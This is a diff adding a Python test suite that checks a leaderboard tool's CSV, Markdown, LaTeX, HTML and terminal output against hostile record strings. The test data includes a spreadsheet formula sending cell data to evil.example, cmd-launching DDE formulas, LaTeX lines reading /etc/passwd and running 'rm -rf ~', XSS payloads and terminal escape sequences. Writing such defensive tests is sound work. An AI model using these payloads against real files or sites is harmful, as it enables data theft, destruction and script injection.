@@ -1,0 +1,224 @@
+"""Fault suite, issue 12 section 5: published and printed output that a
+hostile record cannot turn against its reader (spreadsheet formulas, broken
+Markdown rows, live LaTeX, HTML injection, terminal escape sequences)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from html.parser import HTMLParser
+
+from conftest import make_record
+from markdown_it import MarkdownIt
+from rich.console import Console
+
+from diffzoo.leaderboard.console import case_tables
+from diffzoo.leaderboard.formats import publish
+from diffzoo.leaderboard.summary import build_summary, summary_console, summary_markdown
+from diffzoo.leaderboard.versions import Selection
+
+ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"  # set the window title, clear the screen, turn red
+ESC_SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m"
+CONTROL = {chr(c) for c in (*range(0x20), 0x7f, *range(0x80, 0xa0))} | set("\u2028\u2029\u202e")
+
+
+def published(tmp_path, fmt: str, records, label: str = "work") -> str:
+    return publish(Selection(label, list(records)), fmt, tmp_path / fmt).read_text(encoding="utf-8")
+
+
+def console_text(renderables) -> str:
+    """What a plain (no colour) console prints: every ESC in it came from the data."""
+    console = Console(file=io.StringIO(), width=400, color_system=None, force_terminal=False)
+    for r in renderables:
+        console.print(r)
+    return console.file.getvalue()
+
+
+def markdown_tokens(text: str):
+    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
+
+
+def rendered(cell) -> str:
+    """The text a Markdown viewer shows for an inline token."""
+    return "".join(c.content for c in cell.children)
+
+
+def table_rows(tokens) -> list[list[list]]:
+    """Per Markdown table, its body rows, each a list of cells (inline tokens)."""
+    tables, row = [], None
+    for tok in tokens:
+        if tok.type == "tbody_open":
+            tables.append([])
+        elif tok.type == "tr_open" and tables:
+            row = []
+        elif tok.type == "inline" and row is not None:
+            row.append(tok)
+        elif tok.type == "tr_close" and row is not None:
+            tables[-1].append(row) if tables else None
+            row = None
+    return tables
+
+
+# -- CSV ----------------------------------------------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "   =1+1", " \t@SUM(A1)", "\uff1d1+1"]
+CSV_TEXT = ("version", "suite", "suite_version", "case", "dataset", "detector", "metric", "checkpoint_sha256",
+            "git", "date", "record_id")
+
+
+def test_csv_formula_prefixes_are_neutralised_also_after_spaces_tab_and_cr(tmp_path):
+    records = [make_record(name, dataset=" =dataset()", case="@case") for name in FORMULAS]
+    records.append(make_record("plain-det", task="image", case="image",
+                               metrics={"img_Acc": 0.8, "img_AP": 0.85, "delta_img_Acc": -0.05}))
+    rows = list(csv.DictReader(io.StringIO(published(tmp_path, "csv", records, label="+v1"))))
+    for row in rows:
+        for name in CSV_TEXT:
+            first = row[name].lstrip(" ")[:1]
+            assert first not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), (name, row[name])
+    shown = {r["detector"] for r in rows}
+    assert shown >= {"'" + n.replace("\t", "\\t").replace("\r", "\\r") for n in FORMULAS}
+    assert "plain-det" in shown and {r["version"] for r in rows} == {"'+v1"}
+    delta = next(r for r in rows if r["metric"] == "delta_img_Acc")
+    assert delta["value"] == "-0.05" and float(delta["value"]) == -0.05  # diffzoo's own number stays a number
+
+
+def test_csv_line_breaks_inside_fields_keep_one_row_for_readers_and_line_splitting(tmp_path):
+    names = ["crlf\r\nrow", "lf\nrow", "cr\rrow", "sep\u2028row", "vt\x0bff\x0crow", "nel\x85row"]
+    records = [make_record(n, dataset="data\r\nset") for n in names]
+    text = published(tmp_path, "csv", records)
+    parsed = list(csv.reader(io.StringIO(text)))
+    assert len(parsed) == 1 + 7 * len(names)  # header + one row per detector and binary metric
+    assert len(text.splitlines()) == len(parsed) == len(text.split("\n")) - 1
+    assert all(len(row) == len(parsed[0]) for row in parsed)
+    detectors = {row[parsed[0].index("detector")] for row in parsed[1:]}
+    assert "crlf\\r\\nrow" in detectors and "sep\\u2028row" in detectors
+
+
+# -- Markdown ------------------------------------------------------------------------------------------------
+def test_markdown_table_keeps_one_row_and_its_columns_with_pipes_and_line_breaks(tmp_path):
+    names = ["x | y", "crlf\r\n| a | b |", "cr\r| c |", "lf\n| d |", "back\\|slash", "tab\t|"]
+    records = [make_record(n, dataset="data\r| set |") for n in names]
+    tokens = markdown_tokens(published(tmp_path, "md", records))
+    tables = table_rows(tokens)
+    assert len(tables) == 1 and len(tables[0]) == len(names)
+    header = sum(1 for t in tokens if t.type == "th_open")
+    assert all(len(row) == header for row in tables[0])
+    assert {rendered(row[1]) for row in tables[0]} == {
+        "x | y", "crlf\\r\\n| a | b |", "cr\\r| c |", "lf\\n| d |", "back\\|slash", "tab\\t|"}
+    headings = [t for t in tokens if t.type == "heading_open"]
+    assert len(headings) == 2  # the page title and the one table's title: no heading from the dataset name
+
+
+def test_markdown_leading_hash_and_list_markers_in_names_stay_text():
+    names = ["# pwned", "## also", "- nested", "1. ordered", "  # indented", "= setext"]
+    summary = build_summary([make_record(n) for n in names])
+    tokens = markdown_tokens(summary_markdown(summary, title="# title", notes=["# note", "2) list"]))
+    assert not [t for t in tokens if t.type == "heading_open" and t.level > 0]  # no heading inside a list item
+    assert not [t for t in tokens if t.type == "ordered_list_open"]
+    assert not [t for t in tokens if t.type == "bullet_list_open" and t.level > 0]  # no nested list
+    assert [t.tag for t in tokens if t.type == "heading_open"][:2] == ["h1", "h2"]
+    items = [t.content for t in tokens if t.type == "inline" and t.level == 3]  # list-item paragraphs
+    assert any(c.startswith("\\# pwned: thresholds") for c in items) and "\\# note" in items
+
+
+def test_markdown_backslash_backtick_html_and_emphasis_in_names_stay_literal(tmp_path):
+    names = ["a\\`code | x`", "</td><b>bold</b>", "*em* __strong__", "[link](http://evil.example)",
+             "~~strike~~", "<http://evil.example>", "&lt;entity&gt;"]
+    tokens = markdown_tokens(published(tmp_path, "md", [make_record(n) for n in names]))
+    rows = table_rows(tokens)[0]
+    assert len(rows) == len(names)
+    for row in rows:
+        assert {c.type for c in row[1].children} == {"text"}, row[1].content
+    assert {rendered(row[1]) for row in rows} == set(names)
+
+
+# -- LaTeX ---------------------------------------------------------------------------------------------------
+def test_latex_escapes_specials_line_breaks_and_control_characters(tmp_path):
+    name = "\\input{/etc/passwd} & $x^2$ #1 _a ~b %c"
+    records = [make_record(name), make_record("[3pt] row\x1b[2J"), make_record("*star"),
+               make_record("x", dataset="mini\n\\immediate\\write18{rm -rf ~}\n\nLIVE")]
+    tex = published(tmp_path, "latex", records)
+    assert not CONTROL & (set(tex) - {"\n"})
+    header = tex.split("\\begin{table}")[0].strip().splitlines()
+    assert all(line.startswith("%") for line in header), header  # a line break cannot end a comment
+    assert ("\\textbackslash{}input\\{/etc/passwd\\} \\& \\$x\\textasciicircum{}2\\$ \\#1 \\_a "
+            "\\textasciitilde{}b \\%c &") in tex
+    assert "{[}3pt{]} row\\textbackslash{}x1b{[}2J &" in tex and "{*}star &" in tex
+    assert not [line for line in tex.splitlines() if line.startswith(("[", "*"))]  # no optional argument of \\
+    captions = [line for line in tex.splitlines() if line.startswith("\\caption{")]
+    assert len(captions) == 2 and all(c.endswith("}") for c in captions)  # each caption on one line
+
+
+# -- HTML ----------------------------------------------------------------------------------------------------
+class _Page(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags: list[tuple[str, dict]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def test_html_site_keeps_hostile_strings_as_text_and_shows_control_characters(tmp_path):
+    names = ['"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)' x='", "rtl\u202etxt.exe", "esc" + ESC,
+             "nul\x00byte"]
+    records = [make_record(n, dataset="ds</title><script>alert(1)</script>") for n in names]
+    publish(Selection("v<1>", records), "html", tmp_path / "site")
+    pages = sorted((tmp_path / "site").rglob("*.html"))
+    assert len(pages) == 1 + len(names)
+    for page in pages:
+        raw = page.read_text(encoding="utf-8")
+        assert not CONTROL & (set(raw) - {"\n"}), page  # no raw ESC, NUL or bidi override in the page
+        p = _Page()
+        p.feed(raw)
+        assert not [t for t, _ in p.tags if t in ("script", "img")], page
+        assert not [a for _, attrs in p.tags for a in attrs if a.startswith("on") or a == "x"], page
+    index = _Page()
+    index.feed((tmp_path / "site" / "index.html").read_text(encoding="utf-8"))
+    shown = {a["data-detector"] for t, a in index.tags if t == "tr" and "data-rank" in a}
+    assert shown == {'"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)' x='", "rtl\\u202etxt.exe",
+                     "esc" + ESC_SHOWN, "nul\\x00byte"}
+    assert "ds</title><script>alert(1)</script>" in "".join(index.text)
+
+
+# -- terminal ------------------------------------------------------------------------------------------------
+def test_summary_console_shows_escape_sequences_in_record_strings_escaped():
+    records = [make_record("det" + ESC, threshold_policy={"pixel": "fixed" + ESC}),
+               make_record("other", dataset="mini" + ESC)]
+    out = console_text(summary_console(build_summary(records)))
+    assert "\x1b" not in out and "\x07" not in out
+    assert "det" + ESC_SHOWN in out and "fixed" + ESC_SHOWN in out and "mini" + ESC_SHOWN in out
+
+
+def test_run_console_tables_show_escape_sequences_in_record_strings_escaped():
+    records = [make_record("det" + ESC, case="bin\rary" + ESC), make_record("b", dataset="mini\x9b31m",
+                                                                              baselines={"all\x1b[5m": {"mIoU": 0.1}})]
+    out = console_text(case_tables(records))
+    assert "\x1b" not in out and "\x9b" not in out and "\r" not in out
+    assert "det" + ESC_SHOWN in out and "bin\\rary" + ESC_SHOWN in out and "mini\\x9b31m" in out
+    assert "all\\x1b[5m (baseline)" in out
+
+
+def test_console_tables_print_markup_and_emoji_codes_in_names_literally():
+    name = "[bold red]x[/] :warning: :cross_mark: \\[y]"
+    records = [make_record(name, dataset=":skull: [link=http://evil.example]ds[/link]")]
+    for out in (console_text(case_tables(records)), console_text(summary_console(build_summary(records)))):
+        assert name in out and ":skull: [link=http://evil.example]ds[/link]" in out
+        assert "\u26a0" not in out and "\u274c" not in out
+
+
+def test_leaderboard_diff_console_shows_record_strings_escaped_and_literal():
+    from diffzoo.leaderboard.diff import diff, diff_console
+
+    name = "det" + ESC + "[blink]:warning:"
+    a = Selection("v1" + ESC, [make_record(name, metrics={"mIoU": 0.5, "aAcc": 0.9})])
+    b = Selection("v2", [make_record(name, metrics={"mIoU": 0.55, "aAcc": 0.9}),
+                         make_record("new", dataset="d\x1b[2J")])
+    out = console_text(diff_console(diff(a, b)))
+    assert "\x1b" not in out and "\u26a0" not in out
+    assert "det" + ESC_SHOWN + "[blink]:warning:" in out and "v1" + ESC_SHOWN in out
+    assert "+5.0" in out and "table added standard v1 / binary on d\\x1b[2J" in out
